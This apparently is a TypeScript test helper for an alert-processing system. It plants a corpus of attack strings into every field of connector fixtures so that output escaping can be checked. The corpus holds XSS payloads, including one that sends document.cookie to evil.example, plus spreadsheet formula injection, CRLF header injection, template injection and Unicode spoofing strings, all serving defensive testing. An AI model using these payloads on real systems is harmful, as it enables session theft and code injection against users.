import { globSync, readFileSync } from "node:fs";
import { basename, resolve } from "node:path";
import { load } from "js-yaml";
import type { Alert } from "../../agent/core/alert.ts";
import type { Inbound } from "../../connectors/contract.ts";
import { INBOUND, SHIPPED_MAPPINGS } from "../../connectors/registry.ts";

/** Stands in every planted text; the rule of the test recognises it, and nothing that leaves may hold it. */
export const MARK = "leurreplante";
/** What a planted script does where it runs. */
const RUN = "window.__ran=1;fetch('https://evil.example/'+document.cookie)";

const named = (name: string, ...texts: string[]) => texts.map((text) => ({ name, text }));

/** What an attacker would write into a field. */
export const CORPUS: readonly { name: string; text: string }[] = [
  ...named(
    "mark-up",
    `<script>${RUN}</script>`,
    `<img src=x onerror="${RUN}">`,
    `<svg/onload=${RUN}><style>*{display:none}</style>`,
    `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="data:text/html,x"></object>`,
    `</pre></details></main></body><form action=//evil.example><button>Je valide ce texte</button>`,
    `<base href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">`,
    `<!--<![CDATA[]]>--></title></textarea></select></style></noscript><script>${RUN}</script>`,
    `<link rel=stylesheet href=//evil.example/x.css><a href="//evil.example" id=csrf name=csrf>x</a>`,
  ),
  ...named(
    "attribute",
    `" autofocus onfocus="${RUN}" x="`,
    `' onmouseover='${RUN}' style='position:fixed;inset:0;z-index:9`,
    "`-alert(1)-`",
    `x onpointerenter=${RUN} tabindex=1`,
  ),
  ...named("link", `javascript:${RUN}`, `java\tscript:${RUN}//`, `data:text/html,<script>${RUN}</script>`),
  ...named(
    "template",
    "<%= process.env %>",
    `<%~ "<script>${RUN}</script>" %>`,
    "{{constructor.x}}$" + "{7*7}#{7*7}",
  ),
  ...named("bidi", "facture\u202egpj.exe\u202c", "\u2067\u2066texte\u2069\u200f\u061c", "abc\u2028\u2029def"),
  ...named(
    "hidden",
    "Ap\u200bprou\u200cv\u200d\u2060\ufeff\u00ad\u180e",
    "\u{e0041}\u{e007f}\u{fe0f}",
    "a\u3164b\u115f",
  ),
  ...named("control", "\u001b[31m\u001b]0;x\u0007\b\b\u007f\u0085\u009b", "a\u0000b"),
  ...named("tower", `Z${"\u0335\u0321\u035d".repeat(300)}algo`),
  ...named("long word", "W".repeat(4000), "é".repeat(700)),
  ...named(
    "formula",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    '\r=HYPERLINK("//evil.example")',
  ),
  ...named("header", "a\r\nBcc: victim@evil.example\r\n\r\nbody", "x\nSet-Cookie: a=b", "%0d%0aX-Planted: 1"),
  ...named("paper", ") Tj ET endstream endobj %%EOF", "(x) /JavaScript (app.alert(1)) <</S/URI>>"),
  ...named("other way", "مرحبا بكم في المستشفى 123", "שלום (abc) <b>"),
  ...named("picture", "👩‍⚕️👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇫🇷", "\u{1f468}\u200d"),
  ...named("half", "\ud800 seul", "seul \udfff"),
  ...named(
    "look-alike",
    "✔ Approuvé par le directeur. Rien à faire, fermez cette page.",
    "EXERCICE — Déposé, n° 2026-1",
  ),
  ...named("patient", "patient DUPONT Jean, né le 12/05/1985, NIR 1 85 05 78 006 084 91, IPP 8001234567"),
];

/** The n-th text to plant, marked. */
export const payload = (n: number): string => `${MARK}${CORPUS[n % CORPUS.length]?.text ?? ""}`;

/** A record with something planted in it. */
export interface Planting {
  /** The connector, or the mapping. */
  source: string;
  /** Where: one field, or all of them. */
  field: string;
  record: string;
}

type Leaf = { path: string; text: string };

/** Every text in a value, with where it is; places of a list count as one. */
function leavesOf(value: unknown, path = ""): Leaf[] {
  if (typeof value === "string") return [{ path, text: value }];
  if (Array.isArray(value)) return value.flatMap((each) => leavesOf(each, `${path}[]`));
  if (value === null || typeof value !== "object") return [];
  return Object.entries(value).flatMap(([key, each]) => leavesOf(each, path === "" ? key : `${path}.${key}`));
}

/** The value with its texts changed. */
function changed(value: unknown, change: (leaf: Leaf) => string, path = ""): unknown {
  if (typeof value === "string") return change({ path, text: value });
  if (Array.isArray(value)) return value.map((each) => changed(each, change, `${path}[]`));
  if (value === null || typeof value !== "object") return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [
      key,
      changed(each, change, path === "" ? key : `${path}.${key}`),
    ]),
  );
}

/** A record as JSON writes it; undefined when it is another text. */
function jsonOf(record: string): object | undefined {
  if (!record.startsWith("{") && !record.startsWith("[")) return undefined;
  try {
    return JSON.parse(record) as object;
  } catch {
    return undefined;
  }
}

/** The texts of a record that its reader took from it as they stand, with the field that each went to. */
function verbatimOf(record: string, alert: Alert | undefined): Leaf[] {
  return leavesOf(alert).filter(
    ({ path, text }) =>
      path !== "event.original" && path !== "message" && text.length > 1 && record.includes(text),
  );
}

const CONTEXT = { received: Date.UTC(2026, 0, 1) * 1000, zone: "UTC" };

/** The texts of a record in which something can be planted, and the record with something written behind each. */
function leavesToPlant(record: string, read: Inbound["parse"]) {
  const json = jsonOf(record);
  const leaves = json ? leavesOf(json) : verbatimOf(record, read(record, CONTEXT).alert);
  const write = (behind: (path: string) => string): string => {
    const text = (leaf: Leaf) => `${leaf.text}${behind(leaf.path)}`;
    if (json) return JSON.stringify(changed(json, text));
    return leaves.reduce((line, leaf) => line.replace(leaf.text, () => text(leaf)), record);
  };
  return { leaves, write };
}

/** Plants in each field once over all records of a source, and in all fields of each record together. */
function plantAll(source: string, records: readonly string[], read: Inbound["parse"]): Planting[] {
  const planted: Planting[] = [];
  const seen = new Set<string>();
  let n = 0;
  for (const record of records) {
    const { leaves, write } = leavesToPlant(record, read);
    const plant = (field: string, wanted: (path: string) => boolean) =>
      planted.push({ source, field, record: write((path) => (wanted(path) ? payload(n++) : "")) });
    for (const { path } of leaves) {
      if (seen.has(path)) continue;
      seen.add(path);
      plant(path, (each) => each === path);
    }
    if (leaves.length > 0) plant("*", () => true);
  }
  return planted;
}

const FOLDER = resolve(import.meta.dirname, "../../connectors/inbound");
const linesOf = (pattern: string, cwd: string) =>
  globSync(pattern, { cwd })
    .sort()
    .flatMap((file) => readFileSync(resolve(cwd, file), "utf8").split("\n"))
    .filter((line) => line !== "");

/** What is planted by way of each connector, from its own fixtures: a connector that is added is covered by itself. */
export function plantingsOf(connector: Inbound): Planting[] {
  return plantAll(connector.name, linesOf(`${connector.name}/fixtures/*.in`, FOLDER), connector.parse);
}

/**
 * Plants in all fields of a record together but those by which it is recognised, and in each of these alone, once over
 * all records of a source.
 */
function plantTogether(source: string, records: readonly string[], read: Inbound["parse"]): Planting[] {
  const planted: Planting[] = [];
  const seen = new Set<string>();
  let n = 0;
  const kindOf = (record: string) => {
    const { module, dataset } = read(record, CONTEXT).alert?.event ?? {};
    return `${module} ${dataset}`;
  };
  for (const record of records) {
    const { leaves, write } = leavesToPlant(record, read);
    const only = (field: string) => write((path) => (path === field ? payload(n) : ""));
    const kind = kindOf(record);
    const telling = new Set(leaves.map(({ path }) => path).filter((path) => kindOf(only(path)) !== kind));
    planted.push({
      source,
      field: "*",
      record: write((path) => (telling.has(path) ? "" : payload(n++))),
    });
    for (const field of [...telling].filter((path) => !seen.has(path))) {
      seen.add(field);
      planted.push({ source, field, record: only(field) });
      n++;
    }
  }
  return planted;
}

/** What is planted by way of each mapping, from its own cases. */
export function mappingPlantings(read: Inbound["parse"]): Planting[] {
  return globSync("*.cases.yml", { cwd: SHIPPED_MAPPINGS })
    .sort()
    .flatMap((file) => {
      const cases = load(readFileSync(resolve(SHIPPED_MAPPINGS, file), "utf8")) as { record: string }[];
      const records = cases.map(({ record }) => record);
      return plantTogether(basename(file, ".cases.yml"), records, read);
    });
}

/** Every connector that has a way in. */
export const SOURCES: readonly Inbound[] = INBOUND;

const COUNTED = /^(<|\{|CEF:|LEEF:)/;
/** Records as one stream of text: counted where the format allows, so that a line end within stays within. */
export function streamOf(records: readonly string[]): Buffer {
  return Buffer.concat(
    records.map((record) => {
      const bytes = Buffer.from(record);
      return COUNTED.test(record)
        ? Buffer.concat([Buffer.from(`${bytes.length} `), bytes])
        : Buffer.from(`${record.replaceAll(/[\n\0]/g, " ")}\n`);
    }),
  );
}

/** A rule that recognises whatever is planted, in whichever field, and what makes an incident of it. */
export const LURE_RULE = `title: Planted
id: 5b0f6a53-6f0e-4d3a-8d5d-2f2f5f1f7c11
name: planted
status: experimental
logsource: { category: alert }
detection:
  keywords: ["${MARK}"]
  condition: keywords
level: high
tocsin:
  title_fr: Texte planté
  reason_fr: Un texte d'attaque a été planté dans une alerte.
  cause: exfiltration
`;
